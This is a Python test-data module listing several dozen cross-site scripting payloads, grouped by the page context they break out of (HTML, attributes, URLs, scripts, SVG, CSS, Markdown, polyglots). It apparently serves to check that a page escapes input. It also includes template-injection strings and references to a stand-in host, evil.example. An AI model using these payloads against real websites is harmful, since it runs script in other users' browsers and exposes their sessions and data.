"""Texts that run a script where a page puts them unescaped, by the place that they break out of.

Each would call `alert`, which a test's browser listens to. In a page that escapes them none of
them becomes an element, an attribute or a request.
"""

_JS = "alert(1)"
_HTML = """
<script>{}</script>
<script src=data:text/javascript,{}></script>
<script type=module>{}</script>
<ScRiPt>{}</sCrIpT>
<scr<script>ipt>{}</scr</script>ipt>
<script/x>{}</script>
<script\t>{}</script>
<<script>{}//<</script>
<script>{}
</script ><script>{}</script>
<img src=x onerror={}>
<img src=x onerror="{}">
<img src='x'onerror='{}'>
<img/src=x/onerror={}>
<IMG SRC=x OnErRoR={}>
<img src=x:x onerror={} //
<img src onerror={}>
<image src=x onerror={}>
<img src=x srcset="x 1x" onerror={}>
<picture><source srcset=x><img onerror={} src=x></picture>
<video src=x onerror={}></video>
<video><source onerror={}></video>
<audio src=x onerror={}></audio>
<body onload={}>
<body onpageshow={}>
<iframe src="javascript:{}"></iframe>
<iframe srcdoc="<script>parent.{}</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.{}&lt;/script&gt;"></iframe>
<iframe onload={}></iframe>
<object data="javascript:{}"></object>
<object data=x onerror={}></object>
<embed src="javascript:{}">
<details open ontoggle={}>
<input autofocus onfocus={}>
<select autofocus onfocus={}><option>
<textarea autofocus onfocus={}></textarea>
<button autofocus onfocus={}>x</button>
<a href=# autofocus onfocus={}>x</a>
<div tabindex=0 autofocus onfocus={}>x</div>
<marquee onstart={}>x</marquee>
<style onload={}></style>
<link rel=stylesheet href=data:text/css,x onload={}>
<meta http-equiv=refresh content="0;url=javascript:{}">
<base href="javascript:{}//">
<form action="javascript:{}"><input type=submit autofocus onfocus={}></form>
<form><button formaction="javascript:{}">x</button></form>
<isindex type=image src=x onerror={}>
<x onanimationstart={} style="animation:x 1s">
<x contenteditable autofocus onfocus={}>
<template><script>{}</script></template><img src=x onerror={}>
<noscript><p title="</noscript><img src=x onerror={}>">
<math><mtext><table><mglyph><style><img src=x onerror={}>
<table background="javascript:{}"><tr><td>
<dialog open onclose={}><form method=dialog><button autofocus>x</button></form></dialog>
"""
_ATTRIBUTE = """
"><script>{}</script>
'><script>{}</script>
"><img src=x onerror={}>
'><img src=x onerror={}>
" autofocus onfocus="{}
' autofocus onfocus='{}
` autofocus onfocus=`{}
x autofocus onfocus={}
" onmouseover="{}" style="position:fixed;inset:0
" onload="{}" x="
"/onerror="{}" src="x
&quot; autofocus onfocus=&quot;{}
&#34; autofocus onfocus=&#34;{}
"></textarea><script>{}</script>
</title><script>{}</script>
</textarea><img src=x onerror={}>
</style><img src=x onerror={}>
</select><img src=x onerror={}>
</option></select><img src=x onerror={}>
--><img src=x onerror={}>
]]><img src=x onerror={}>
?><img src=x onerror={}>
"""
_URL = """
javascript:{}
JaVaScRiPt:{}
java\tscript:{}
javascript&colon;{}
&#106;avascript:{}
&#x6A;avascript:{}
javascript://%0a{}
data:text/html,<script>{}</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:{}
//evil.example/x.js
https://evil.example/"onerror="{}
"""
_JAVASCRIPT = """
';{};'
";{};"
`;{};`
${{{}}}
\\';{};//
</script><script>{}</script>
</script><img src=x onerror={}>
*/{}/*
<!--<script>{}//-->
{{{{constructor.constructor('{}')()}}}}
{{% print({}) %}}
{{{{ self.__init__.__globals__ }}}}
"""
_SVG = """
<svg onload={}>
<svg/onload={}>
<svg><script>{}</script></svg>
<svg><script href=data:text/javascript,{} /></svg>
<svg><a xlink:href="javascript:{}"><text y=20>x</text></a></svg>
<svg><animate onbegin={} attributeName=x dur=1s>
<svg><set onbegin={} attributeName=x>
<svg><foreignObject><img src=x onerror={}></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload={}/>#x">
<svg><style><img src=x onerror={}></style></svg>
<svg><desc><img src=x onerror={}></desc></svg>
<math href="javascript:{}">x</math>
"""
_CSS = """
<style>@import "data:text/css,x";</style><x onclick={}>
<style>*{{background:url(//evil.example/x)}}</style>
<div style="background:url(javascript:{})">x</div>
<div style="width:expression({})">x</div>
<p style="background:url(//evil.example/x)">x</p>
"""
_MARKDOWN = """
[x](javascript:{})
![x](x" onerror="{})
[x](data:text/html,<script>{}</script>)
<javascript:{}>
[x]: javascript:{}
![x](//evil.example/x.png)
`<script>{}</script>`
"""
_POLYGLOTS = r"""
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */{} )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd={}>
"'--></title></style></textarea></script><svg/onload={}>
'">><marquee><img src=x onerror={}></marquee>"></plaintext></|><plaintext/onmouseover={}>
<svg><p><style><!--</style><img src=x onerror={}>--></p></svg>
＜script＞{}＜/script＞
%3Cscript%3E{}%3C/script%3E
&lt;script&gt;{}&lt;/script&gt;
+ADw-script+AD4-{}+ADw-/script+AD4-
"""
BY_PLACE = {
    "html": _HTML,
    "attribute": _ATTRIBUTE,
    "url": _URL,
    "javascript": _JAVASCRIPT,
    "svg": _SVG,
    "css": _CSS,
    "markdown": _MARKDOWN,
    "polyglot": _POLYGLOTS,
}
PAYLOADS = tuple(
    line.format(*[_JS] * 2) for lines in BY_PLACE.values() for line in lines.strip().splitlines()
)
